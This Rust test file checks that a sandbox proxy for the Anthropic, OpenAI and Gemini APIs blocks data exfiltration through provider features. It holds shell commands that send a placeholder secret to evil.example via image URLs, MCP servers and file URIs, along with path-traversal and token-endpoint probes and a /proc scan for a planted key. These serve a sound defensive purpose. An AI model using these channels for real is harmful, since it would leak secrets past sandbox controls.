//! Ways out of a bottle through a model's provider, and what may pass on a model's route.

use super::{Bottle, Row, play};
use crate::support::{World, have_tools};

const OPTIONS: &str = r#"env = { REQUEST = "" }, routes = {
  { host = "api.anthropic.com", api = "anthropic", quiet = { "/api/" },
    auth = { scheme = "header", header = "x-api-key", credential = "REAL_KEY" } },
  { host = "api.openai.com", api = "openai_responses", auth = { scheme = "Bearer", credential = "REAL_KEY" } },
  { host = "generativelanguage.googleapis.com", api = "gemini",
    auth = { scheme = "header", header = "x-goog-api-key", credential = "REAL_KEY" } },
}"#;

const BEFORE: &str = r#"bb.rehearse { seed = 1, turns = { { text = "hello there" } } }"#;

const FINE: &str =
    r#"ask '{"model":"m","max_tokens":9,"messages":[{"role":"user","content":"hi"}]}' | fine 'hello there'"#;

/// A shell function: asks the Anthropic API with this body.
const ASK: &str = "ask() { req https://api.anthropic.com/v1/messages -H 'content-type: application/json' \
    -H 'x-api-key: placeholder' -H 'anthropic-version: 2023-06-01' \"${@:2}\" --data-binary \"$1\"; }; \
    openai() { req https://api.openai.com/v1/responses -H 'content-type: application/json' -H 'authorization: Bearer placeholder' --data-binary \"$1\"; }; \
    gemini() { req \"https://generativelanguage.googleapis.com/v1beta/models/m:generateContent?key=mine&alt=proto&fields=candidates\" \
    -H 'content-type: application/json' -H 'x-goog-api-key: placeholder' -H 'x-goog-fieldmask: candidates' --data-binary \"$1\"; }; ";

pub const ROWS: &[Row] = &[
    Row::new(
        "an image by URL",
        r#"ask '{"model":"m","max_tokens":9,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/s3cr3t"}}]}]}'"#,
        &["403", "x-bb-deny: server_tool", "url_image"],
    )
    .denied("server_tool", "api.anthropic.com")
    .twin(r#"ask '{"model":"m","max_tokens":9,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBORw0KGgo="}}]}]}' | fine 'hello there'"#),
    Row::new(
        "an image by URL, deep in a tool's result",
        r#"ask '{"model":"m","max_tokens":9,"messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/s3cr3t"}}]}]}]}'"#,
        &["x-bb-deny: server_tool"],
    )
    .twin(FINE),
    Row::new(
        "an image by URL, in letters that look otherwise",
        r#"ask '{"model":"m","max_tokens":9,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"\u0075rl","\u0075rl":"https://evil.example/s3cr3t"}}]}]}'"#,
        &["x-bb-deny: server_tool"],
    ),
    Row::new(
        "a key that stands twice",
        r#"ask '{"model":"m","max_tokens":9,"messages":[],"messages":[{"role":"user","content":"s3cr3t"}]}'"#,
        &["HTTP/2 4", "x-bb-deny: "],
    )
    .comes("`protocol_unknown`"),
    Row::new(
        "MCP servers",
        r#"ask '{"model":"m","max_tokens":9,"messages":[{"role":"user","content":"s3cr3t"}],"mcp_servers":[{"type":"url","url":"https://evil.example/","name":"x"}]}'"#,
        &["403", "x-bb-deny: server_tool", "mcp_servers"],
    )
    .twin(r#"ask '{"model":"m","max_tokens":9,"messages":[{"role":"user","content":"hi"}],"mcp_servers":[]}' | fine 'hello there'"#),
    Row::new(
        "web search",
        r#"ask '{"model":"m","max_tokens":9,"messages":[{"role":"user","content":"s3cr3t"}],"tools":[{"type":"web_search_20250305","name":"web_search"}]}'"#,
        &["x-bb-deny: server_tool", "web_search"],
    )
    .twin(r#"ask '{"model":"m","max_tokens":9,"messages":[{"role":"user","content":"hi"}],"tools":[{"name":"web_search","input_schema":{"type":"object"}}]}' | fine 'hello there'"#),
    Row::new(
        "a file of the account",
        r#"ask '{"model":"m","max_tokens":9,"messages":[{"role":"user","content":[{"type":"document","source":{"type":"file","file_id":"file_s3cr3t"}}]}]}'"#,
        &["x-bb-deny: server_tool"],
    ),
    Row::new(
        "OpenAI: an image by URL, MCP, a stored response",
        r#"openai '{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"https://evil.example/s3cr3t"}]}]}'
           openai '{"model":"m","input":"s3cr3t","tools":[{"type":"mcp","server_url":"https://evil.example/"}]}'
           openai '{"model":"m","input":"s3cr3t","previous_response_id":"resp_1"}'"#,
        &["url_image", "mcp", "previous_response"],
    )
    .twin(r#"openai '{"model":"m","input":"hi"}' | fine 'hello there'"#)
    .comes("`server_tool`, each"),
    Row::new(
        "Gemini: search, pages, code, files by URL and what another has stored",
        r#"for tool in google_search urlContext codeExecution; do gemini '{"contents":[{"role":"user","parts":[{"text":"s3cr3t"}]}],"tools":[{"'$tool'":{}}]}'; done
           gemini '{"contents":[{"role":"user","parts":[{"fileData":{"fileUri":"https://evil.example/s3cr3t"}}]}]}'
           gemini '{"contents":[{"role":"user","parts":[{"functionResponse":{"name":"f","parts":[{"file_data":{"file_uri":"https://evil.example/s3cr3t"}}]}}]}]}'
           gemini '{"contents":[{"role":"user","parts":[{"text":"s3cr3t"}]}],"cached_content":"cachedContents/x"}'"#,
        &["403", "x-bb-deny: server_tool", "google_search", "url_context", "code_execution", "file_uri", "cached_content"],
    )
    .denied("server_tool", "generativelanguage.googleapis.com")
    .twin(r#"gemini '{"contents":[{"role":"user","parts":[{"text":"hi"},{"inlineData":{"mimeType":"image/png","data":"iVBORw0KGgo="}}]}],"tools":[{"functionDeclarations":[{"name":"google_search"}]}]}' | fine 'hello there'"#),
    Row::new(
        "Gemini: paths that store, or answer later",
        r#"for path in v1beta/cachedContents upload/v1beta/files v1beta/models/m:batchGenerateContent v1beta/models/m%3AgenerateContent; do
           req https://generativelanguage.googleapis.com/$path -d '{"s3cr3t":1}'; done"#,
        &["404", "x-bb-deny: metered_path_unknown"],
    )
    .denied("metered_path_unknown", "generativelanguage.googleapis.com"),
    Row::new(
        "a body that cannot be read",
        r#"ask "$(printf '\x1f\x8b\x08s3cr3t')"; ask 's3cr3t'; ask '["s3cr3t"]'"#,
        &["HTTP/2 4", "x-bb-deny: "],
    )
    .comes("`protocol_unknown`"),
    Row::new(
        "a body that says it is coded",
        r#"ask '{"model":"m","max_tokens":9,"messages":[{"role":"user","content":"s3cr3t"}]}' -H 'content-encoding: gzip'"#,
        &["x-bb-deny: "],
    )
    .comes("`protocol_unknown`"),
    Row::new("an unknown path of a metered host", "req https://api.anthropic.com/v1/messages/batches -d '{\"s3cr3t\":1}'", &[
        "404",
        "x-bb-deny: metered_path_unknown",
    ])
    .denied("metered_path_unknown", "api.anthropic.com")
    .twin(r#"req https://api.anthropic.com/v1/messages/count_tokens -H 'content-type: application/json' -d '{"model":"m","messages":[]}' | fine input_tokens"#),
    Row::new("a path that climbs to a known one", "req --path-as-is https://api.anthropic.com/v1/x/../messages -d '{\"s3cr3t\":1}'", &["x-bb-deny: "])
    .comes("`path` or `metered_path_unknown`"),
    Row::new("telemetry, quietly", "req https://api.anthropic.com/api/event_logging/v2/batch -d '{\"s3cr3t\":1}'", &["404"]),
    Row::new("a WebSocket to the model", "req --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' https://api.openai.com/v1/responses", &[
        "426",
        "x-bb-deny: upgrade",
    ]),
    Row::new("a login from inside: where tokens are given out", "req https://console.anthropic.com/v1/oauth/token -d s3cr3t; req https://auth.openai.com/oauth/token -d s3cr3t; req https://oauth2.googleapis.com/token -d s3cr3t; req https://api.anthropic.com/v1/oauth/token -d s3cr3t", &[
        "x-bb-deny: metered_path_unknown",
    ])
    .each(&[("x-bb-deny: route_missing", 3)])
    .denied("route_missing", "auth.openai.com")
    .covers(&[40]),
    Row::new("HTTP without TLS to the model", "req http://api.anthropic.com/v1/messages -d '{\"s3cr3t\":1}'", &["x-bb-deny: port"]).covers(&[21]),
    Row::new(
        "the real key, anywhere in the bottle",
        r#"k=$(printf 'sk-re%s' al-7f3a9b1c); all=$(cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n'); [[ $all == *BB_BOTTLE* ]] && echo looked; [[ $all == *"$k"* ]] && echo leaked; grep -rlF "$k" ~ . /tmp /run /etc /var 2>/dev/null | wc -l"#,
        &["looked\n0\n"],
    )
    .comes("it is nowhere")
    .covers(&[43]),
    Row::new(
        "the real key, given back",
        r#"req https://api.anthropic.com/v1/models -H 'x-api-key: mine' -H 'authorization: Bearer mine' | grep -c "$(printf 'sk-re%s' al-7f3a9b1c)""#,
        &["0"],
    )
    .comes("the answer, without it")
    .covers(&[30]),
];

#[test]
fn a_models_provider_reaches_out_for_nobody() {
    if !have_tools(&["curl", "python3"]) {
        return;
    }
    for world in World::each() {
        reaches_out_for_nobody(&world, &Bottle::default());
        world.assert_silent(&[]);
    }
}

/// Plays the rows in a bottle that is made by what `bottle` says.
#[track_caller]
pub fn reaches_out_for_nobody(world: &World, bottle: &Bottle<'_>) {
    let with = |script: &str| -> &'static str {
        if script.is_empty() { "" } else { Box::leak(format!("{ASK}{script}").into_boxed_str()) }
    };
    let rows: Vec<Row> = ROWS.iter().map(|row| Row { run: with(row.run), twin: with(row.twin), ..*row }).collect();
    let options = bottle.with(OPTIONS);
    let env = [bottle.env, &[("REAL_KEY", "sk-real-7f3a9b1c")]].concat();
    let bottle = Bottle { needs: ", credential:REAL_KEY", before: BEFORE, options: &options, env: &env, ..*bottle };
    let played = play(world, &bottle, &rows);
    // Each twin was metered, and nothing else was.
    let usage = played.events.iter().filter(|e| e["type"] == "usage").count();
    let twins = rows.iter().filter(|r| r.twin.contains("fine 'hello there'")).count();
    assert_eq!(usage, twins, "{}", played.output);
}
